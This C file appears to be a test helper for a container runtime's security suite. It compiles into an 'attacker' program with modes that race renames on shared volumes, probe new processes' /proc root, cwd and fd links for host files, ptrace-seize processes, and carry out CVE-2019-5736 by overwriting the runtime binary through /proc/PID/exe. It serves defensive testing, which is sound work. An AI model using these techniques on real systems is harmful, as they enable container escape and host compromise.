// What the attack tests run inside containers and beside them: one static program, so that it works in any
// image. Every mode goes on until it is killed, unless it says otherwise.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/landlock.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void note(const char* path, const char* text) {
  const int fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);
  if (fd < 0) return;
  (void)!write(fd, text, strlen(text));
  (void)!write(fd, "\n", 1);
  close(fd);
}

// swap A B: exchanges two names, as a neighbour that shares a volume would.
_Noreturn static void swap_names(const char* left, const char* right) {
  for (;;) (void)renameat2(AT_FDCWD, left, AT_FDCWD, right, RENAME_EXCHANGE);
}

static int is_number(const char* text) { return *text >= '1' && *text <= '9'; }

// The name of a process that is neither this program nor one of those it is told to let alone.
static int is_victim(const char* pid, const char* spared) {
  char path[64];
  char name[64] = "";
  if (atoi(pid) == getpid()) return 0;
  snprintf(path, sizeof path, "/proc/%s/comm", pid);
  const int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  const ssize_t got = read(fd, name, sizeof name - 1);
  close(fd);
  if (got <= 1) return 0;
  name[got - 1] = '\0';
  return strstr(spared, name) == NULL;
}

// What a process that is being set up would give away: its root, its descriptors, its memory, its binary.
static void look_into(const char* pid, const char* secret, const char* notes) {
  char path[512];
  char text[600];
  snprintf(path, sizeof path, "/proc/%s/root%s", pid, secret);
  if (access(path, F_OK) == 0) note(notes, "root: reached the host's files");
  snprintf(path, sizeof path, "/proc/%s/cwd/.%s", pid, secret);
  if (access(path, F_OK) == 0) note(notes, "cwd: reached the host's files");
  snprintf(path, sizeof path, "/proc/%s/fd", pid);
  DIR* fds = opendir(path);
  if (fds == NULL) return;
  const struct dirent* entry;
  while ((entry = readdir(fds)) != NULL) {
    if (entry->d_name[0] == '.') continue;
    struct stat info;
    snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, entry->d_name);
    if (stat(path, &info) != 0 || !S_ISDIR(info.st_mode)) continue;
    snprintf(path, sizeof path, "/proc/%s/fd/%s/../../../../../../../../..%s", pid, entry->d_name, secret);
    if (access(path, F_OK) != 0) continue;
    snprintf(text, sizeof text, "fd %s: reached the host's files", entry->d_name);
    note(notes, text);
  }
  closedir(fds);
}

static unsigned long long permitted(const char* pid) {
  char path[64];
  char text[4096];
  snprintf(path, sizeof path, "/proc/%s/status", pid);
  const int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  const ssize_t got = read(fd, text, sizeof text - 1);
  close(fd);
  if (got <= 0) return 0;
  text[got] = '\0';
  const char* found = strstr(text, "CapPrm:");
  return found == NULL ? 0 : strtoull(found + strlen("CapPrm:"), NULL, 16);
}

// A traced process does what its tracer wants, where it is: the host's files are there or not.
static void trace(const char* pid, const char* secret, const char* notes) {
  const int number = atoi(pid);
  if (ptrace(PTRACE_SEIZE, number, 0, 0) != 0) return;
  char path[512];
  snprintf(path, sizeof path, "/proc/%s/root%s", pid, secret);
  note(notes, access(path, F_OK) == 0 ? "ptrace: holds a process that sees the host's files" : "traced");
  char text[80];
  snprintf(text, sizeof text, "rights %llx", permitted(pid));
  note(notes, text);
}

// peek SECRET SPARED SEEN NOTES: whoever appears in this pid namespace and is not spared.
static int peek(const char* secret, const char* spared, const char* seen, const char* notes) {
  for (;;) {
    DIR* all = opendir("/proc");
    if (all == NULL) return 1;
    const struct dirent* entry;
    while ((entry = readdir(all)) != NULL) {
      if (!is_number(entry->d_name) || !is_victim(entry->d_name, spared)) continue;
      note(seen, entry->d_name);
      look_into(entry->d_name, secret, notes);
      trace(entry->d_name, secret, notes);
    }
    closedir(all);
    while (waitpid(-1, NULL, WNOHANG | __WALL) > 0) {  // whom it traced waits for it at the end
    }
  }
}

static void overwrite(int exe, const char* notes) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
  for (int i = 0; i < 20000; ++i) {
    const int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0 && errno == ETXTBSY) continue;
    if (fd < 0) return;
    if (write(fd, "X", 1) == 1) note(notes, "written");
    close(fd);
    return;
  }
}

// exe SPARED SEEN NOTES: CVE-2019-5736, with a read-only mount made writable again where the rights allow it.
static int take_exe(const char* spared, const char* seen, const char* notes) {
  for (;;) {
    DIR* all = opendir("/proc");
    if (all == NULL) return 1;
    const struct dirent* entry;
    while ((entry = readdir(all)) != NULL) {
      char path[300];
      if (!is_number(entry->d_name) || !is_victim(entry->d_name, spared)) continue;
      snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
      const int exe = open(path, O_RDONLY | O_CLOEXEC);
      if (exe < 0) continue;
      struct stat taken;
      struct stat own;
      if (fstat(exe, &taken) == 0 && stat("/bin/busybox", &own) == 0 && taken.st_ino == own.st_ino) {
        close(exe);  // it runs the image's program already
        continue;
      }
      note(seen, entry->d_name);
      struct mount_attr change = {.attr_clr = MOUNT_ATTR_RDONLY};
      if (syscall(SYS_mount_setattr, exe, "", AT_EMPTY_PATH, &change, sizeof change) == 0) note(seen, "made writable");
      overwrite(exe, notes);
      close(exe);
    }
    closedir(all);
  }
}

// hold SEEN: traces whoever appears, and never waits for it.
static int hold(const char* seen) {
  for (;;) {
    DIR* all = opendir("/proc");
    if (all == NULL) return 1;
    const struct dirent* entry;
    while ((entry = readdir(all)) != NULL)
      if (is_number(entry->d_name) && atoi(entry->d_name) != getpid() && is_victim(entry->d_name, "husk") &&
          ptrace(PTRACE_SEIZE, atoi(entry->d_name), 0, 0) == 0)
        note(seen, "held");
    closedir(all);
    usleep(1000);
  }
}

// landlocked COMMAND…: runs it in a Landlock domain that makes no FIFOs (and, like each one, mounts nothing).
// 99: the kernel has no Landlock.
static int landlocked(char** command) {
  const struct landlock_ruleset_attr rules = {.handled_access_fs = LANDLOCK_ACCESS_FS_MAKE_FIFO};
  const int fd = (int)syscall(SYS_landlock_create_ruleset, &rules, sizeof rules, 0);
  if (fd < 0) return 99;
  if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0 || syscall(SYS_landlock_restrict_self, fd, 0) != 0) return 98;
  execv(command[0], command);
  return 97;
}

int main(int argc, char** argv) {
  if (argc > 2 && strcmp(argv[1], "landlocked") == 0) return landlocked(argv + 2);
  if (argc == 4 && strcmp(argv[1], "swap") == 0) swap_names(argv[2], argv[3]);
  if (argc == 6 && strcmp(argv[1], "peek") == 0) return peek(argv[2], argv[3], argv[4], argv[5]);
  if (argc == 5 && strcmp(argv[1], "exe") == 0) return take_exe(argv[2], argv[3], argv[4]);
  if (argc == 3 && strcmp(argv[1], "hold") == 0) return hold(argv[2]);
  fprintf(stderr, "usage: attacker swap A B | peek SECRET SPARED SEEN NOTES | exe SPARED SEEN NOTES | hold SEEN\n");
  return 2;
}
